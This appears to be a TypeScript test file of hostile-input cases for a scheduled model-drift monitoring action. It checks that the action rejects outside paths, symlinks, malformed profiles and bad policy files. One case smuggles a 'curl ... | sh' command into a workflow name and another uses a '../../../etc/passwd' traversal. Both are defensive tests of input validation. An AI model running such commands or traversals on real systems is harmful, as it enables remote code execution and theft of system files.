/**
 * monitor-model's inputs. It runs on a schedule, on the default branch, but what it reads was
 * written by others: the serving system's export (column names, values), profiles made by shard
 * jobs, the policy file, and the settings of the workflow. Each must end with a clear error,
 * fetch nothing, and read nothing outside the workspace.
 */
import { MINIMAL_PROFILE } from '../../helpers/minimal-profile.js';
import type { HostileCase } from '../case.js';

const WINDOW = 'tenure\n1\n2\n';

const monitor = (
  id: string,
  files: HostileCase['files'],
  inputs: Record<string, string>,
  error: RegExp,
): HostileCase => ({
  id,
  action: 'monitor-model',
  files: { 'reference.json': MINIMAL_PROFILE, 'window.csv': WINDOW, ...files },
  inputs: {
    'model-name': 'churn',
    data: '{dir}/window.csv',
    reference: '{dir}/reference.json',
    ...inputs,
  },
  // The daily schedule, as examples/workflows/monitor.yml runs it.
  event: { name: 'schedule', payload: { schedule: '17 6 * * *' } },
  expect: { error },
});

export const cases: HostileCase[] = [
  monitor(
    'mon-reference-outside',
    {},
    { reference: '{outside}/profile.json' },
    /reference.*outside/i,
  ),
  monitor(
    'mon-reference-link',
    { 'linked.json': { symlink: '{outside}/profile.json' } },
    { reference: '{dir}/linked.json' },
    /reference.*(link|outside)/i,
  ),
  monitor(
    'mon-reference-not-profile',
    { 'other.json': '{"metrics": {"accuracy": 0.9}}' },
    { reference: '{dir}/other.json' },
    /other\.json.*not a profile/,
  ),
  monitor(
    'mon-reference-deep',
    { 'deep.json': '['.repeat(200_000) },
    { reference: '{dir}/deep.json' },
    /deep\.json/,
  ),
  monitor('mon-window-outside', {}, { data: '{outside}/window.csv' }, /data file.*outside/i),
  // Shard profiles are data too: a file that is not one is refused, not merged.
  monitor(
    'mon-window-not-profile',
    { 'shard.json': '{"rows": 1e308}' },
    { data: '{dir}/shard.json' },
    /shard\.json.*not a profile/,
  ),
  monitor(
    'mon-window-mixed',
    { 'shard.json': MINIMAL_PROFILE },
    { data: '{dir}/shard.json\n{dir}/window.csv' },
    /mixes profiles .* with data files/,
  ),
  monitor(
    'mon-window-without-input',
    { 'narrow.csv': 'score\n0.5\n' },
    { data: '{dir}/narrow.csv' },
    /no column "tenure", which the reference profile has/,
  ),
  // A workflow name is a file name: nothing after it reaches a shell or a URL path.
  monitor(
    'mon-retrain-shell',
    {},
    { retrain: 'retrain.yml; curl https://example.invalid | sh' },
    /retraining workflow .* is not a workflow file name/,
  ),
  monitor(
    'mon-retrain-path',
    {},
    { retrain: '../../../etc/passwd' },
    /retraining workflow .* is not a workflow file name/,
  ),
  monitor(
    'mon-policy-typo',
    { 'gates.yaml': 'monitor:\n  drift:\n    shares: 0.3\n' },
    { policy: '{dir}/gates.yaml' },
    /gates\.yaml.*line 3/,
  ),
  monitor(
    'mon-policy-cooldown',
    { 'gates.yaml': 'monitor:\n  retrain:\n    cooldown: 7 days\n' },
    { policy: '{dir}/gates.yaml' },
    /cooldown.*m, h, d or w/,
  ),
  monitor('mon-labels-comma', {}, { 'issue-labels': 'ok,also-this' }, /label.*comma/i),
];
